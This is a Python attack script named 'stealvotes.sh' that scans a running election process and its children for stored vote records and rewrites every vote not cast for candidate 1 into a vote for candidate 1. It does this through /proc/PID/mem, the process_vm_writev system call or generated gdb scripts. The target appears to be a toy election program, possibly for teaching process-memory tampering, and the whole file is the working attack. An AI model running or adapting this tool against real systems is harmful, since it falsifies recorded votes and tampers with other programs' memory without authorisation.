#!/usr/bin/env python3
"""stealvotes.sh [--with TOOL] NAME|PID: turns every vote for 2 in a running election into one for 1, from outside."""
import argparse
import ctypes
import os
import subprocess
import sys
import tempfile

from process import Refused, process_of, votes_in
import read

WANTED = 1


def places(pid):
    """Where a vote for the wrong candidate stands: (process, address of its digit, number, choice)."""
    for one in read.with_children(pid):
        for mapping in read.mappings(one):
            if "w" not in mapping.rights:
                continue
            with open(f"/proc/{one}/mem", "rb", buffering=0) as memory:
                for base, length in read.pieces(one, mapping):
                    try:
                        memory.seek(base)
                        data = memory.read(length)
                    except OSError:
                        continue
                    for address, number, choice in votes_in(data, base):
                        if choice != WANTED:
                            yield one, address + len("Vote N="), number, choice


def write_mem(found):
    """Writes through /proc/PID/mem."""
    for one, address, _, _ in found:
        with open(f"/proc/{one}/mem", "r+b", buffering=0) as memory:
            memory.seek(address)
            memory.write(b"%d" % WANTED)


def write_vm(found):
    """Writes with the system call process_vm_writev."""
    digit = ctypes.create_string_buffer(b"%d" % WANTED, 1)
    for one, address, _, _ in found:
        mine, theirs = read.Vector(ctypes.addressof(digit), 1), read.Vector(address, 1)
        if read.libc.process_vm_writev(one, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) != 1:
            raise Refused(os.strerror(ctypes.get_errno()))


def write_gdb(found):
    """Writes with gdb."""
    for one in sorted({place[0] for place in found}):
        with tempfile.NamedTemporaryFile("w", suffix=".gdb") as script:
            for process, address, _, _ in found:
                if process == one:
                    script.write(f"set var *(char*){address:#x} = {ord(str(WANTED))}\n")
            script.flush()
            done = subprocess.run(["gdb", "-q", "-nx", "-batch", "-p", str(one), "-iex", "set auto-load off",
                                   "-iex", "set debuginfod enabled off", "-x", script.name],
                                  capture_output=True, text=True, timeout=120)
            if "ptrace: " in done.stderr:
                raise Refused(done.stderr.strip().splitlines()[0])


WAYS = {"gdb": write_gdb, "mem": write_mem, "vm_writev": write_vm}


def main():
    parser = argparse.ArgumentParser(prog="stealvotes.sh", description=__doc__)
    parser.add_argument("--with", dest="tool", choices=sorted(WAYS), default="gdb")
    parser.add_argument("process", metavar="NAME|PID")
    arguments = parser.parse_args()
    try:
        found = list(places(process_of(arguments.process)))
    except OSError as reason:
        sys.exit(str(reason))
    if not found:
        print("no vote found that could be changed")
        sys.exit(1)
    try:
        WAYS[arguments.tool](found)
    except Refused as reason:
        print(f"{arguments.tool}: {reason}", file=sys.stderr)
        sys.exit(1)
    for number, choice in sorted({(number, choice) for _, _, number, choice in found}):
        print(f"Vote {number}={choice} --> Vote {number}={WANTED}")
    print(f"{len(found)} places changed with {arguments.tool}")


if __name__ == "__main__":
    main()
